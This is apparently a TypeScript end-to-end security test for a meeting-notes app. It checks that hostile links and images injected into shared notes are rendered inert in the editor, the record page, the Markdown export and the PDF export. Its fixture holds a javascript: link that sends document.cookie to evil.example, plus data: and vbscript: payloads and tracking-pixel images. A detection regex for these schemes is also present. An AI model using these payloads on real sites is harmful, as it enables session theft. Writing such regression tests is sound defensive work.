import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { getNotes } from '../../shared/doc/schema.ts';
import { launchBrowser, type TestBrowser } from '../helpers/browser.ts';
import { cli } from '../helpers/cli.ts';
import { joinAndConnect } from '../helpers/docClient.ts';
import { HttpSession } from '../helpers/httpSession.ts';
import { MeetingPage } from '../helpers/meetingPage.ts';
import { addUser, PASSWORD, seedNetwork, type SeededNetwork } from '../helpers/seed.ts';
import { startServerProcess, type ServerProcess } from '../helpers/serverProcess.ts';

const run = promisify(execFile);
const LAPTOP = { width: 1440, height: 900 };
const EVIL = 'evil.example';

/** What a hostile client writes into the notes, straight into the Yjs document, past any editor. */
function writeHostileNotes(doc: Y.Doc): void {
  const badLink = new Y.XmlElement('paragraph');
  const badText = new Y.XmlText();
  badText.insert(0, 'Before ');
  badText.insert(7, 'click for the care plan', { link: { href: 'javascript:fetch("//evil.example/"+document.cookie)', title: null } });
  badLink.insert(0, [badText]);

  const otherSchemes = new Y.XmlElement('paragraph');
  const otherText = new Y.XmlText();
  otherText.insert(0, 'data link', { link: { href: 'data:text/html,<script>alert(1)</script>' } });
  otherText.insert(9, ' and relative link', { link: { href: '/api/audit' } });
  otherText.insert(27, ' and vb link', { link: { href: 'vbscript:msgbox(1)' } });
  otherSchemes.insert(0, [otherText]);

  const image = new Y.XmlElement('paragraph');
  const picture = new Y.XmlElement('image');
  picture.setAttribute('src', `https://${EVIL}/pixel.png`);
  picture.setAttribute('alt', 'pixel');
  image.insert(0, [new Y.XmlText('A picture follows: '), picture]);

  const typedHtml = new Y.XmlElement('paragraph');
  typedHtml.insert(0, [new Y.XmlText(`<img src=https://${EVIL}/typed.png> is only text`)]);

  const goodLink = new Y.XmlElement('paragraph');
  const goodText = new Y.XmlText();
  goodText.insert(0, 'The crisis line page', { link: { href: 'https://example.org/crisis' } });
  goodLink.insert(0, [goodText]);

  getNotes(doc).push([badLink, otherSchemes, image, typedHtml, goodLink]);
}

/** Every link and image source inside `selector` (the notes), after they have rendered. */
async function linksAndImages(page: Page, selector: string): Promise<{ hrefs: string[]; srcs: string[] }> {
  return page.evaluate((within) => {
    const found = (query: string) => [...document.querySelectorAll(within)].flatMap((root) => [...root.querySelectorAll(query)]);
    return {
      hrefs: found('[href]').map((el) => el.getAttribute('href') ?? ''),
      srcs: found('[src], [srcset]').map((el) => `${el.getAttribute('src') ?? ''} ${el.getAttribute('srcset') ?? ''}`),
    };
  }, selector);
}

/** Anything in the whole page that would run script or fetch from the hostile host. */
async function dangerousAttributes(page: Page): Promise<string[]> {
  return page.evaluate((evil) =>
    [...document.querySelectorAll('[href], [src], [srcset], [action], [formaction]')]
      .flatMap((el) => [...el.attributes].map((a) => a.value))
      .filter((value) => /^\s*(javascript|data|vbscript):/i.test(value) || value.includes(evil)),
  EVIL);
}

describe('hostile content in the notes (finding: notes accepted javascript: links and outside images)', () => {
  let server: ServerProcess;
  let browser: TestBrowser;
  let seeded: SeededNetwork;
  let downloads: string;

  beforeAll(async () => {
    downloads = mkdtempSync(join(tmpdir(), 'polyphony-hostile-'));
    server = await startServerProcess({ env: { LIVEKIT: 'off' } });
    await addUser(server.dataDir, 'robin@team.org', { name: 'Robin' });
    seeded = await seedNetwork(server.dataDir, { team: ['robin@team.org'], personName: 'Jo', memberName: 'Kim' });
    browser = await launchBrowser();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.dispose();
    rmSync(downloads, { recursive: true, force: true });
  });

  it('the editor shows a javascript:, data:, vbscript: or relative link as plain text and no image at all', async () => {
    const robin = await MeetingPage.open(await browser.newPerson({ viewport: LAPTOP }), `${server.url}/login`);
    await robin.loginAndOpenMeeting('robin@team.org', PASSWORD, 'Jo');
    await robin.join('Robin');

    const kim = HttpSession.forInvite(server.url, seeded.inviteUrl);
    const { client } = await joinAndConnect(kim, seeded.meetingId, 'Kim');
    writeHostileNotes(client.doc);

    await expect.poll(() => robin.notes.textContent()).toContain('The crisis line page');
    const notes = await robin.notes.textContent();
    for (const text of ['click for the care plan', 'data link', 'relative link', 'vb link', 'A picture follows:', `<img src=https://${EVIL}/typed.png> is only text`]) expect(notes).toContain(text);

    const { hrefs, srcs } = await linksAndImages(robin.page, '.notes-editor');
    expect(hrefs).toEqual(['https://example.org/crisis']);
    expect(srcs).toEqual([]);
    expect(await dangerousAttributes(robin.page)).toEqual([]);
    expect(await robin.notes.locator('img').count()).toBe(0);
    const safe = robin.notes.getByRole('link', { name: 'The crisis line page' });
    expect(await safe.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    await robin.page.screenshot({ path: 'test-results/screenshots/notes-hostile-links.png' });
    client.destroy();
  });

  it('the record page, the Markdown and the PDF keep the words and carry no such link or image', async () => {
    await cli(server.dataDir, ['meeting', 'end', '--meeting', seeded.meetingId]);
    const context = await browser.newPerson({ viewport: LAPTOP });
    const page = await context.newPage();
    await page.goto(`${server.url}/login`);
    await page.getByLabel('Email').fill('robin@team.org');
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByRole('heading', { name: 'Networks' }).waitFor();
    await page.goto(`${server.url}/networks/${seeded.networkId}/meetings/${seeded.meetingId}`);
    await page.getByText('click for the care plan').waitFor();
    expect(await linksAndImages(page, '.record-notes')).toEqual({ hrefs: [], srcs: [] });
    expect(await dangerousAttributes(page)).toEqual([]);
    await context.close();

    const robin = new HttpSession(server.url);
    await robin.login('robin@team.org', PASSWORD);
    const markdown = await (await robin.request('GET', `/api/meetings/${seeded.meetingId}/export?format=md`)).text();
    expect(markdown).toContain('click for the care plan');
    expect(markdown).toContain('The crisis line page');
    expect(markdown).not.toMatch(/javascript:|vbscript:|data:text|\]\(|!\[/i);
    expect(markdown).not.toContain(`https://${EVIL}/pixel.png`);
    expect(markdown).toContain('\\<img src=https://evil.example/typed.png\\> is only text'); // escaped, shown as typed

    const pdfResponse = await robin.request('GET', `/api/meetings/${seeded.meetingId}/export?format=pdf`);
    expect(pdfResponse.status).toBe(200);
    const pdf = join(downloads, 'note.pdf');
    writeFileSync(pdf, Buffer.from(await pdfResponse.arrayBuffer()));
    const { stdout } = await run('pdftotext', [pdf, '-']);
    expect(stdout.replace(/\s+/g, ' ')).toContain('click for the care plan');
    // No link annotation of any kind in the printed note: its notes are text.
    expect(Buffer.from(await (await robin.request('GET', `/api/meetings/${seeded.meetingId}/export?format=pdf`)).arrayBuffer()).toString('latin1')).not.toMatch(/\/URI/);
  });
});
